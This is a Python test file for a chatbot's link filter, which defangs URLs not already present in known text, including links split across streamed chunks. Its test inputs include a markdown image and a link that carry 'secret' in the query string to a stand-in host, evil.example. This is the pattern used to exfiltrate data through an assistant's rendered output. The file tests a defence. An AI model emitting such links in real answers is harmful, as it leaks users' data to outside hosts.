"""Links in answers: only what somebody said can be clicked."""

import itertools
from collections.abc import AsyncIterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.links import known_links_only, links_in, with_known_links

KNOWN = links_in(["The plan: https://plan.example/a, and (https://wiki.example/x_(y))."])


async def pieces(*texts: str) -> AsyncIterator[str]:
    for text in texts:
        yield text


async def shown(*texts: str) -> str:
    return "".join([piece async for piece in known_links_only(pieces(*texts), KNOWN)])


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("See https://plan.example/a.", "See https://plan.example/a."),
        ("[plan](https://plan.example/a)", "[plan] (https://plan.example/a)"),
        ("https://plan.example/a?q=secret", "`https://plan.example/a?q=secret`"),
        ("![](https://evil.example/?q=secret)", "![] (`https://evil.example/?q=secret`)"),
        ("<HTTPS://EVIL.example/x>", "<`HTTPS://EVIL.example/x`>"),
        ("join discord.gg/abc now", "join `discord.gg/abc` now"),
        ("[1](https://discord.com/channels/1/2/3)", "[1] (`https://discord.com/channels/1/2/3`)"),
        ("nothing [here] (at all)", "nothing [here] (at all)"),
    ],
)
def test_what_nobody_said_is_no_link(said: str, left: str) -> None:
    assert with_known_links(said, KNOWN) == left


@pytest.mark.asyncio
async def test_a_link_that_comes_in_pieces_is_judged_whole() -> None:
    assert await shown("so [pl", "an](htt", "ps://evil", ".example/?q=", "x) end") == (
        "so [plan] (`https://evil.example/?q=x`) end"
    )
    assert await shown("https://plan.exam", "ple/a") == "https://plan.example/a"


@pytest.mark.asyncio
async def test_what_is_no_link_does_not_wait() -> None:
    answer = known_links_only(pieces("Hello ", "there, ", "Anna"), KNOWN)
    assert [piece async for piece in answer] == ["Hello ", "there, ", "Anna"]


@pytest.mark.asyncio
@given(cuts=st.lists(st.integers(0, 60), max_size=5))
async def test_however_it_comes_it_is_the_same(cuts: list[int]) -> None:
    text = "a [b](https://evil.example/q) discord.gg/x https://plan.example/a c"
    ends = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    parts = [text[start:end] for start, end in itertools.pairwise(ends)]
    assert await shown(*parts) == with_known_links(text, KNOWN)
